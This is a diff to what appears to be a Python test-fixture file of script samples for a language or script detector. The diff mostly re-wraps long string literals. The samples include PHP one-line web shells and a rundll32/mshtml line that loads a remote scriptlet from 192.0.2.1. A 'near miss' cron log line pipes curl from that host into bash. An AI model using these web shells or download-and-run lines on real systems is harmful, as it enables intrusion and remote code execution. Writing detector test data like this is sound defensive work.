@@ -13,8 +13,10 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     ),
     "jscript": (
         'var a = new ActiveXObject("WScript.Shell"); a.Run("notepad");',
-        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
-        'GetObject("script:http://192.0.2.1/x")',
+        (
+            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
+            'GetObject("script:http://192.0.2.1/x")'
+        ),
     ),
     "vbscript": (
         'Set s = CreateObject("WScript.Shell")\r\ns.Run "notepad.exe", 0\r\n',
@@ -46,21 +48,32 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     "php": ('<?php system($_GET["c"]); ?>', "<?=`$_GET[0]`?>"),
     "javascript": (
         'const x = require("fs"); console.log(x.readFileSync("a").toString());',
-        '!function(e,t){"use strict";var n=t.x;e.y=function(r){return r===n?1:2}}(window,document);',
+        (
+            '!function(e,t){"use strict";var n=t.x;e.y=function(r){return'
+            " r===n?1:2}}(window,document);"
+        ),
     ),
     "ruby": (
-        "require 'socket'\nclass A\n  def run\n    [1].each do |x|\n      puts x\n    end\n  end\nend\n",
+        (
+            "require 'socket'\nclass A\n  def run\n    [1].each do |x|\n      puts"
+            " x\n    end\n  end\nend\n"
+        ),
     ),
     "lua": ("local function f(x)\n  return x\nend\nlocal y = f(1)\n",),
     "awk": ('BEGIN { FS = ":" }\n$3 > 999 { print $1 }\n',),
     "sct": (
-        '<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript">'
-        '<![CDATA[ new ActiveXObject("WScript.Shell").Run("notepad"); ]]></script></registration>'
-        "</scriptlet>",
+        (
+            '<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript">'
+            '<![CDATA[ new ActiveXObject("WScript.Shell").Run("notepad"); ]]></script>'
+            "</registration>"
+            "</scriptlet>"
+        ),
     ),
     "hta": (
-        '<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">'
-        'CreateObject("WScript.Shell").Run "notepad"</script></html>',
+        (
+            '<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">'
+            'CreateObject("WScript.Shell").Run "notepad"</script></html>'
+        ),
     ),
     "script": ("#!/usr/bin/tclsh\nputs hello\n",),
 }
@@ -78,7 +91,10 @@ NEAR_MISSES: tuple[str, ...] = (
     '{"script": "$x = 1; Get-Process | iex", "n": [1, 2]}',
     "Nov 22 04:00:01 host cron[12]: (root) CMD (curl http://192.0.2.1/x | bash)\n" * 20,
     '<?xml version="1.0"?><a><b c="d">function(x) { return; }</b></a>',
-    "#include <stdio.h>\n\nstatic int x(void) {\n\treturn 1;\n}\n\nint main(void)\n{\n\treturn x();\n}\n",
+    (
+        "#include <stdio.h>\n\nstatic int x(void) {\n\treturn 1;\n}\n\nint"
+        " main(void)\n{\n\treturn x();\n}\n"
+    ),
     "body { color: red; }\n.a { margin: 0 auto; }\n",
     "SELECT a FROM b WHERE c = 1;\nINSERT INTO b VALUES (1);\n",
     "function of the local import is to print use sub class end",
